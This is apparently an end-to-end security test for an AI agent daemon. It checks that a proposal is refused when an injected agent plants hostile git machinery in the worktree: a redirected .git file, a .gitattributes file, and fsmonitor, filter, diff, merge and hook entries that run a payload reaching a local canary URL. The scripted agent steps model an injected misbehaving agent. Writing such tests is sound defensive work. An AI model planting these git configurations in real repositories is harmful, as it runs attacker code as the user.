import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { makeHome, kairos, kairosJson, spawnDaemon, waitFor } from '../support/kairos.js';
import { startFakeAnthropic, type ToolUseBlockSpec } from '../support/fake-anthropic.js';
import { treeHash } from '../support/tree-hash.js';
import { wrapRepo } from '../support/git-repo.js';
import { makeGitTrap } from '../support/git-trap.js';
import { detectSandbox } from '../../src/policy/sandbox.js';
import { startCanary } from './support/canary.js';
import { makeWorld } from './support/hostile-repo.js';
import { scriptAgent } from './support/agent-script.js';
import { toolResults } from './support/tool-results.js';

/**
 * Issue 10, item 1, end to end: a model that obeys an injection writes a test file; the allowed,
 * sandboxed `node --test` runs it, and it plants, in the task's worktree, git machinery that runs a
 * payload (a `.git` file pointing at a git dir it made, with a clean filter, fsmonitor, hooks,
 * textconv, an external diff, a pager; nested repositories; a `.gitattributes` selecting a driver
 * the user's own config defines). Then the agent proposes. Before issue 10 the daemon's own,
 * unsandboxed `git add -A` ran the payload as the user, with network.
 *
 * Now: the proposal is refused with the reason in `kairos tasks` and the notification, the payload
 * never ran (it would append to a canary file outside every tree and fetch a canary URL on
 * 127.0.0.1; the task's stored final state is the event that comes after every git command the
 * daemon runs for it), and the user's tree, the fake HOME and the canary folder are byte-identical.
 */

const sandbox = detectSandbox();

interface TaskJson {
  id: number;
  kind: string;
  state: string;
  reason: string | null;
  proposal?: unknown;
}

/** A payload the planted config runs: records its kind in the canary folder and reaches for the canary server. */
function payloadScript(canaryDir: string, canaryUrl: string): string {
  return `#!/bin/sh\necho "planted-$1" >> '${canaryDir}/ran.log'\nnode -e "fetch(process.argv[1]).catch(() => {})" '${canaryUrl}/planted-'"$1" >/dev/null 2>&1\ncat\n`;
}

/**
 * The test file the model writes: run by `node --test` in the sandbox (cwd: the worktree), it
 * plants what `plant` says. Paths are made absolute at run time: the payload lives in the worktree.
 */
function plantingTest(canaryDir: string, canaryUrl: string, plant: string): string {
  return `import fs from 'node:fs';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { test } from 'node:test';
const root = process.cwd();
const payload = path.join(root, '.evil', 'payload.sh');
function gitDir(dir, config) {
  fs.mkdirSync(path.join(dir, 'objects'), { recursive: true });
  fs.mkdirSync(path.join(dir, 'refs', 'heads'), { recursive: true });
  fs.writeFileSync(path.join(dir, 'HEAD'), 'ref: refs/heads/main\\n');
  fs.writeFileSync(path.join(dir, 'config'), config);
  fs.mkdirSync(path.join(dir, 'hooks'), { recursive: true });
  for (const h of ['pre-commit', 'post-checkout', 'post-index-change', 'reference-transaction']) fs.writeFileSync(path.join(dir, 'hooks', h), '#!/bin/sh\\n' + payload + ' hook-' + h + ' </dev/null\\n', { mode: 0o755 });
}
const evil = (kind) => payload + ' ' + kind;
const config = (extra = '') => [
  '[core]', '\\trepositoryformatversion = 0', '\\tbare = false',
  '\\tfsmonitor = ' + evil('fsmonitor'), '\\tpager = ' + evil('pager'), '\\tsshCommand = ' + evil('ssh'), '\\teditor = ' + evil('editor'),
  '[filter "x"]', '\\tclean = ' + evil('filter-clean'), '\\tsmudge = ' + evil('filter-smudge'), '\\tprocess = ' + evil('filter-process'),
  '[diff "x"]', '\\ttextconv = ' + evil('textconv'), '\\tcommand = ' + evil('diff-driver'),
  '[diff]', '\\texternal = ' + evil('diff-external'),
  '[merge "x"]', '\\tdriver = ' + evil('merge-driver'),
  extra, '',
].join('\\n');
test('setup', () => {
  fs.mkdirSync(path.dirname(payload), { recursive: true });
  fs.writeFileSync(payload, ${JSON.stringify(payloadScript(canaryDir, canaryUrl))}, { mode: 0o755 });
${plant}
});
`;
}

const PLANT_GIT_FILE = `
  gitDir(path.join(root, '.evil', 'gitdir'), config());
  fs.writeFileSync(path.join(root, '.git'), 'gitdir: .evil/gitdir\\n');
  fs.writeFileSync(path.join(root, '.gitattributes'), '* filter=x diff=x merge=x\\n');
`;

const PLANT_VARIANTS = `
  // A nested repository in a subfolder whose config includes another planted file.
  fs.writeFileSync(path.join(root, '.evil', 'included.config'), '[core]\\n\\tfsmonitor = ' + evil('include-fsmonitor') + '\\n[diff]\\n\\texternal = ' + evil('include-diff-external') + '\\n');
  gitDir(path.join(root, 'src', '.git'), config('[include]\\n\\tpath = ' + path.join(root, '.evil', 'included.config')));
  // A .git file in another subfolder, pointing at a planted git dir.
  gitDir(path.join(root, '.evil', 'gitdir2'), config());
  fs.mkdirSync(path.join(root, 'lib'), { recursive: true });
  fs.writeFileSync(path.join(root, 'lib', '.git'), 'gitdir: ../.evil/gitdir2\\n');
  fs.writeFileSync(path.join(root, 'lib', 'util.js'), 'export {};\\n');
  // A .gitattributes that selects the drivers the user's own repository config defines.
  fs.writeFileSync(path.join(root, '.gitattributes'), '* filter=real diff=real merge=real\\n');
`;

interface AttackResult {
  task: TaskJson;
  tasksText: string;
  notifications: string;
  said(id: string): string;
}

async function attack(name: string, plant: string, realConfig: (trapProgram: (kind: string) => string) => Record<string, string>): Promise<AttackResult & { check(): void }> {
  const canary = await startCanary();
  const fake = await startFakeAnthropic();
  const w = makeWorld(`kairos-gitesc-${name}-`);
  const canaryDir = path.join(w.outside, 'canary');
  const trap = makeGitTrap(canaryDir, canary.url);
  const repo = wrapRepo(w.repoDir);
  repo.write('package.json', '{ "type": "module" }\n');
  repo.write('src/app.js', 'export const total = (xs) => xs.reduce((a, b) => a - b, 0);\n');
  repo.write('check.js', "import { total } from './src/app.js';\nif (total([1, 2]) !== 3) { console.log('total is wrong'); process.exit(1); }\n");
  repo.commit('app, with a bug');
  for (const [k, v] of Object.entries(realConfig((kind) => trap.program(kind)))) repo.git('config', k, v);
  const h = makeHome(`
triggers:
  - name: check
    on: { fs: ["src/**"] }
    settle_ms: 300
    run: node check.js
    ask: "the check failed: find the cause and propose a minimal fix"
    ask_on: failure
    notify: on_failure
permissions:
  allow: ["Bash(node --test:*)", "git"]
budget: { task_usd: 1, day_usd: 5 }
models: { act: claude-sonnet-4-6, triage: claude-haiku-4-5 }
`);
  h.env.HOME = w.home;
  h.env.ANTHROPIC_API_KEY = 'sk-ant-test-not-a-real-key';
  h.env.ANTHROPIC_BASE_URL = fake.url;
  const call = (id: string, tool: string, input: Record<string, unknown>): ToolUseBlockSpec => ({ type: 'tool_use', id: `toolu_${id}`, name: tool, input });
  const turn = (...uses: ToolUseBlockSpec[]) => ({ content: uses, stop_reason: 'tool_use' as const });
  const agent = scriptAgent(fake, [
    turn(call('plant', 'write_file', { path: 'test/setup.test.js', content: plantingTest(canaryDir, canary.url, plant) })),
    turn(call('run_tests', 'run_command', { command: 'node --test test/' })),
    turn(call('fix', 'edit_file', { path: 'src/app.js', old: 'a - b', new: 'a + b' }), call('git_status', 'git', { args: 'status --short' })),
    turn(call('propose', 'propose', { summary: 'total() subtracted; it now adds' })),
  ]);

  const before = { repo: treeHash(repo.dir), home: treeHash(w.home), canary: treeHash(canaryDir) };
  let d: Awaited<ReturnType<typeof spawnDaemon>> | undefined;
  try {
    assert.equal(kairos(['trust', repo.dir], h.env).code, 0);
    d = await spawnDaemon([repo.dir], h.env);
    assert.equal(kairos(['poke', '--repo', repo.dir, '--trigger', 'check'], h.env).code, 0);
    const task = await waitFor(() => kairosJson<TaskJson[]>(['tasks'], h.env).find((t) => t.kind === 'agent' && ['proposed', 'failed', 'done'].includes(t.state)), {
      what: 'agent task finished',
      timeoutMs: 200_000,
    }).catch((e: Error) => {
      throw new Error(`${e.message}\ntasks: ${JSON.stringify(kairosJson(['tasks'], h.env))}\ndaemon: ${d?.output()}`);
    });
    const tasksText = kairos(['tasks'], h.env).stdout;
    d.kill('SIGTERM');
    await d.exited;
    d = undefined;
    const notesFile = path.join(h.home, 'notifications.jsonl');
    const results = toolResults(fake.rawBodies);
    const after = { repo: treeHash(repo.dir), home: treeHash(w.home), canary: treeHash(canaryDir), ran: trap.ran(), hits: [...canary.hits], pending: agent.pending() };
    return {
      task,
      tasksText,
      notifications: fs.existsSync(notesFile) ? fs.readFileSync(notesFile, 'utf8') : '',
      said: (id) => results.get(`toolu_${id}`) ?? '(no result)',
      check: () => {
        assert.equal(after.pending, 0, 'every scripted step was taken');
        assert.deepEqual(after.ran, [], 'a planted or repository-configured program ran');
        assert.deepEqual(after.hits, [], 'the canary server was reached');
        assert.equal(after.canary, before.canary, 'the canary folder changed');
        assert.equal(after.repo, before.repo, "the user's tree changed");
        assert.equal(after.home, before.home, 'the fake HOME changed');
      },
    };
  } finally {
    if (d) {
      d.kill('SIGTERM');
      await d.exited;
    }
    await fake.close();
    await canary.close();
    h.cleanup();
    w.cleanup();
  }
}

test('a planted .git file with a filter driver (and every other door git has) runs nothing; the proposal is refused and says why', { timeout: 300_000, skip: sandbox.available ? false : 'needs the sandbox to run the planting test' }, async () => {
  const r = await attack('file', PLANT_GIT_FILE, () => ({}));
  assert.match(r.said('run_tests'), /pass 1/, `the planting test ran in the sandbox:\n${r.said('run_tests')}`);
  r.check();
  // The git tool read the real repository, not the planted one (where every file would be untracked).
  assert.match(r.said('git_status'), /^ M src\/app\.js$[\s\S]*\?\? \.evil\//m);
  assert.equal(r.task.state, 'failed', `task ended ${r.task.state}: ${r.task.reason}`);
  assert.match(r.task.reason ?? '', /proposal refused, nothing was proposed: .*the worktree's own \.git file was rewritten to point at another repository/);
  assert.match(r.task.reason ?? '', /'\.gitattributes' selects a filter, diff or merge driver/);
  assert.equal(r.task.proposal, undefined);
  assert.match(r.tasksText, /proposal refused/, `kairos tasks does not show the refusal:\n${r.tasksText}`);
  assert.match(r.notifications, /proposal refused/, 'the notification names the refusal');
});

test("variants: a nested repository with an included config, a .git file in a subfolder, and .gitattributes selecting the user's own drivers", { timeout: 300_000, skip: sandbox.available ? false : 'needs the sandbox to run the planting test' }, async () => {
  const r = await attack('variants', PLANT_VARIANTS, (program) => ({
    'filter.real.clean': program('real-filter-clean'),
    'filter.real.smudge': program('real-filter-smudge'),
    'filter.real.required': 'true',
    'diff.real.textconv': program('real-textconv'),
    'diff.real.command': program('real-diff-driver'),
    'merge.real.driver': `${program('real-merge')} %O %A %B`,
  }));
  assert.match(r.said('run_tests'), /pass 1/, `the planting test ran in the sandbox:\n${r.said('run_tests')}`);
  r.check();
  assert.equal(r.task.state, 'failed', `task ended ${r.task.state}: ${r.task.reason}`);
  for (const why of [/'src\/\.git' is a \.git folder/, /'lib\/\.git' is a \.git entry/, /'\.gitattributes' selects a filter, diff or merge driver/]) {
    assert.match(r.task.reason ?? '', why);
  }
  assert.match(r.tasksText, /proposal refused/);
});
